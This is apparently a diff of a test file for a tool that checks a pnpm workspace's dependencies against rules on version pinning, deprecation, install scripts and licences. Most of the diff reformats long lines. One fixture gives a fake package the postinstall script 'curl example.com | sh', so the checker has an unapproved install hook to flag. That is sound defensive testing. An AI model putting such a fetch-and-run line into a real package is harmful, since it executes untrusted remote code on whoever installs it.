@@ -23,17 +23,30 @@ describe('a workspace that breaks every rule', () => {
     const folder = `node_modules/.pnpm/${name}@1.0.0/node_modules/${name}`;
     write(`${folder}/package.json`, { name, version: '1.0.0', ...manifest });
     write(`server/node_modules/${name}/package.json`, { name, version: '1.0.0', ...manifest });
-    for (const [file, text] of Object.entries(files)) for (const at of [folder, `server/node_modules/${name}`]) write(`${at}/${file}`, text);
+    for (const [file, text] of Object.entries(files))
+      for (const at of [folder, `server/node_modules/${name}`]) write(`${at}/${file}`, text);
   };
   beforeEach(() => {
     root = mkdtempSync(join(tmpdir(), 'vitae-dependencies-'));
     for (const at of ['web', 'desktop', 'packages/cli']) write(`${at}/package.json`, { name: at });
     write('package.json', { name: 'root', devDependencies: { ranged: '^1.0.0', tagged: 'latest' } });
-    write('server/package.json', { name: 'server', dependencies: { copyleft: '1.0.0', unnamed: '1.0.0', permissive: '1.0.0' }, devDependencies: { builder: '1.0.0' } });
-    write('pnpm-workspace.yaml', "packages:\n  - server\nallowBuilds:\n  decided: false\n  '@scope/decided': true\noverrides:\n  builder: 1.0.0\n");
+    write('server/package.json', {
+      name: 'server',
+      dependencies: { copyleft: '1.0.0', unnamed: '1.0.0', permissive: '1.0.0' },
+      devDependencies: { builder: '1.0.0' },
+    });
+    write(
+      'pnpm-workspace.yaml',
+      "packages:\n  - server\nallowBuilds:\n  decided: false\n  '@scope/decided': true\noverrides:\n  builder: 1.0.0\n",
+    );
     const resolution = (held: string) => `    resolution: ${held}\n`;
-    const entries = ['builder', 'recipe', 'decided', 'copyleft', 'unnamed', 'permissive'].map((name) => `  ${name}@1.0.0:\n${resolution('{integrity: sha512-YQ==}')}\n`);
-    write('pnpm-lock.yaml', `packages:\n\n${entries.join('')}  old@1.0.0:\n${resolution('{tarball: https://example.com/old.tgz}')}    deprecated: Use another\n\nsnapshots:\n`);
+    const entries = ['builder', 'recipe', 'decided', 'copyleft', 'unnamed', 'permissive'].map(
+      (name) => `  ${name}@1.0.0:\n${resolution('{integrity: sha512-YQ==}')}\n`,
+    );
+    write(
+      'pnpm-lock.yaml',
+      `packages:\n\n${entries.join('')}  old@1.0.0:\n${resolution('{tarball: https://example.com/old.tgz}')}    deprecated: Use another\n\nsnapshots:\n`,
+    );
     install('builder', { license: 'MIT', scripts: { postinstall: 'curl example.com | sh' } });
     install('recipe', { license: 'MIT' }, { 'binding.gyp': '{}' });
     install('decided', { license: 'MIT', scripts: { install: 'node-gyp rebuild' } });
@@ -45,12 +58,20 @@ describe('a workspace that breaks every rule', () => {
   afterEach(() => rmSync(root, { recursive: true }));
 
   it.each([
-    ['is pinned to one version, and held by a checksum', ['root: ranged is "^1.0.0"', 'root: tagged is "latest"', 'old@1.0.0: {tarball: https://example.com/old.tgz}']],
+    [
+      'is pinned to one version, and held by a checksum',
+      ['root: ranged is "^1.0.0"', 'root: tagged is "latest"', 'old@1.0.0: {tarball: https://example.com/old.tgz}'],
+    ],
     ['was not called deprecated by the registry', ['old@1.0.0 Use another']],
     ['runs nothing at installation that was not decided on', ['builder 1.0.0: postinstall', 'recipe 1.0.0: node-gyp']],
-    ['ships under an allowed licence', ['copyleft 1.0.0: GPL-3.0-only', 'of-permissive 1.0.0: AGPL-3.0-only', 'unnamed 1.0.0: no licence']],
+    [
+      'ships under an allowed licence',
+      ['copyleft 1.0.0: GPL-3.0-only', 'of-permissive 1.0.0: AGPL-3.0-only', 'unnamed 1.0.0: no licence'],
+    ],
   ])('is told that not every one %s', (rule, expected) => {
-    expect(dependencyRules[rule]?.(root).toSorted((one, other) => one.localeCompare(other))).toEqual(expected.toSorted((one, other) => one.localeCompare(other)));
+    expect(dependencyRules[rule]?.(root).toSorted((one, other) => one.localeCompare(other))).toEqual(
+      expected.toSorted((one, other) => one.localeCompare(other)),
+    );
   });
 });
 
